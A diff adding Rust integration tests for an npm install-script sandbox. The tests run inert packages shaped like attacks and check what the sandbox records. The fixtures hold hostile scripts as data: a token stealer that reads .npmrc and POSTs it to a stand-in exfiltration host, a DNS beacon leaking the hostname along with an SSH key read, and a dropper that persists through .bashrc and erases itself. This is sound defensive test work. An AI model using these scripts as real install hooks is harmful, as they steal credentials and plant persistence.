@@ -1,0 +1,230 @@
+//! The sandbox against real bubblewrap and strace (installed by `scripts/test`):
+//! inert packages shaped like real attacks, run and recorded.
+
+use std::io::Read as _;
+use std::net::TcpListener;
+use std::time::Duration;
+
+use airlock_policy::{Code, Severity};
+use airlock_sandbox::{Availability, Config, Observation, Report, probe, run};
+use airlock_test::PackageBuilder;
+
+fn config() -> Config {
+    let config = Config {
+        time_limit: Duration::from_secs(20),
+        ..Config::default()
+    };
+    assert!(
+        matches!(probe(&config), Availability::Ready { .. }),
+        "the sandbox must be available where the tests run: {:?}",
+        probe(&config)
+    );
+    config
+}
+
+fn sandboxed(builder: PackageBuilder) -> Report {
+    run(&config(), &builder.build().tarball).expect("the sandbox runs")
+}
+
+fn strongest(report: &Report, code: Code) -> Option<Severity> {
+    report
+        .findings
+        .iter()
+        .filter(|finding| finding.code == code)
+        .map(|finding| finding.severity)
+        .max()
+}
+
+/// The issue's test: a script that resolves a name, reads the canary `.npmrc` and
+/// POSTs it is recorded with the name, the file and the destination, and nothing
+/// leaves the sandbox (a listener on this machine's loopback hears nothing).
+#[test]
+fn a_token_stealer_is_recorded_and_contained() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let script = format!(
+        r#"const os = require("os"), fs = require("fs"), dns = require("dns"), http = require("http");
+const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
+dns.lookup("collector.exfil.example", () => {{}});
+const local = http.request({{ host: "127.0.0.1", port: {port}, method: "POST" }}, () => {{}});
+local.on("error", () => {{}}); local.end(token);
+const out = http.request({{ host: "collector.exfil.example", method: "POST", path: "/t" }}, () => {{}});
+out.on("error", () => {{}}); out.end(token);
+setTimeout(() => {{}}, 300);
+"#
+    );
+    let report = sandboxed(
+        PackageBuilder::new("token-stealer-shape", "1.0.0")
+            .script("preinstall", "node collect.js")
+            .file("collect.js", script),
+    );
+    assert!(
+        report.observations.contains(&Observation::Resolved {
+            name: "collector.exfil.example".into()
+        }),
+        "{report:#?}"
+    );
+    assert!(
+        report.observations.iter().any(|observation| matches!(
+            observation,
+            Observation::ReadSecret { path, .. } if path.ends_with("/.npmrc")
+        )),
+        "{report:#?}"
+    );
+    let read = report
+        .findings
+        .iter()
+        .find(|finding| finding.code == Code::RuntimeCredentialRead)
+        .expect("the read is a finding");
+    assert!(read.message.contains(".npmrc"), "{}", read.message);
+    assert!(
+        read.message.contains("collector.exfil.example"),
+        "{}",
+        read.message
+    );
+    assert!(read.severity >= Severity::High);
+    assert_eq!(
+        strongest(&report, Code::RuntimeNetwork),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        report.scripts,
+        [("preinstall".to_owned(), "node collect.js".to_owned())]
+    );
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(
+        listener.accept().is_err(),
+        "a connection reached this machine's loopback from the sandbox"
+    );
+}
+
+/// A DNS beacon carrying the machine's name (the commonest dependency-confusion
+/// probe) and a shell script reading SSH keys: blocked.
+#[test]
+fn beacons_and_key_theft_block() {
+    let report = sandboxed(
+        PackageBuilder::new("beacon-shape", "99.0.0")
+            .script("postinstall", "node -e \"require('dns').lookup(require('os').hostname() + '.x.oast.example', () => {})\"; cat ~/.ssh/id_rsa > /dev/null; ls ~/.ssh"),
+    );
+    assert_eq!(
+        strongest(&report, Code::RuntimeNetwork),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+    assert_eq!(
+        strongest(&report, Code::RuntimeCredentialRead),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+}
+
+/// A dropper: writes a file outside the package, makes it executable and runs it;
+/// installs itself into the shell profile; erases its setup script.
+#[test]
+fn droppers_persistence_and_erased_traces_are_seen() {
+    let report = sandboxed(
+        PackageBuilder::new("dropper-shape", "1.0.0")
+            .script("postinstall", "node setup.js")
+            .file(
+                "setup.js",
+                r##"const fs = require("fs"), cp = require("child_process"), os = require("os");
+fs.writeFileSync("/tmp/.payload", "#!/bin/sh\necho dropped\n", { mode: 0o755 });
+cp.execFileSync("/tmp/.payload");
+fs.appendFileSync(os.homedir() + "/.bashrc", "\n/tmp/.payload &\n");
+fs.unlinkSync(__filename);
+"##,
+            ),
+    );
+    assert_eq!(
+        strongest(&report, Code::RuntimeExec),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+    assert_eq!(
+        strongest(&report, Code::RuntimePersistence),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|finding| finding.code == Code::RuntimeFileWrite
+                && finding.message.contains("setup.js")),
+        "{report:#?}"
+    );
+}
+
+/// What ordinary installers do stays below a quarantine: run node, write into
+/// their own directory and a cache, read npm's config.
+#[test]
+fn an_ordinary_installer_is_not_stopped() {
+    let report = sandboxed(
+        PackageBuilder::new("native-shape", "1.0.0")
+            .script("install", "node install.js")
+            .file(
+                "install.js",
+                r##"const fs = require("fs"), os = require("os"), path = require("path");
+fs.mkdirSync(path.join(__dirname, "bin"), { recursive: true });
+fs.writeFileSync(path.join(__dirname, "bin", "tool"), "#!/bin/sh\necho ok\n", { mode: 0o755 });
+require("child_process").execFileSync(path.join(__dirname, "bin", "tool"));
+fs.mkdirSync(path.join(os.homedir(), ".cache", "native-shape"), { recursive: true });
+fs.writeFileSync(path.join(os.homedir(), ".cache", "native-shape", "v1"), "x");
+try { fs.readFileSync(path.join(os.homedir(), ".npmrc")); } catch {}
+console.log("installed");
+"##,
+            ),
+    );
+    assert_eq!(report.exit_code, Some(0), "{report:#?}");
+    assert!(report.output.contains("installed"));
+    assert!(
+        report
+            .findings
+            .iter()
+            .all(|finding| finding.severity <= Severity::Medium),
+        "{report:#?}"
+    );
+}
+
+/// A script that never ends is killed at the time limit, and says so.
+#[test]
+fn a_script_past_its_time_is_killed() {
+    let config = Config {
+        time_limit: Duration::from_secs(2),
+        ..config()
+    };
+    let started = std::time::Instant::now();
+    let report = run(
+        &config,
+        &PackageBuilder::new("sleeper-shape", "1.0.0")
+            .script("preinstall", "node -e \"setInterval(() => {}, 1000)\"")
+            .build()
+            .tarball,
+    )
+    .unwrap();
+    assert!(report.timed_out);
+    assert!(started.elapsed() < Duration::from_secs(10));
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|finding| finding.code == Code::AnalysisIncomplete)
+    );
+}
+
+/// A package without install scripts is not run at all.
+#[test]
+fn packages_without_install_scripts_are_not_run() {
+    let report = sandboxed(
+        PackageBuilder::new("plain", "1.0.0")
+            .script(
+                "prepare",
+                "node -e \"require('dns').lookup('x.example', () => {})\"",
+            )
+            .file("index.js", "module.exports = 1;\n"),
+    );
+    assert!(report.scripts.is_empty());
+    assert!(report.observations.is_empty() && report.findings.is_empty());
+    let _ = std::io::empty().read(&mut [0u8; 1]);
+}
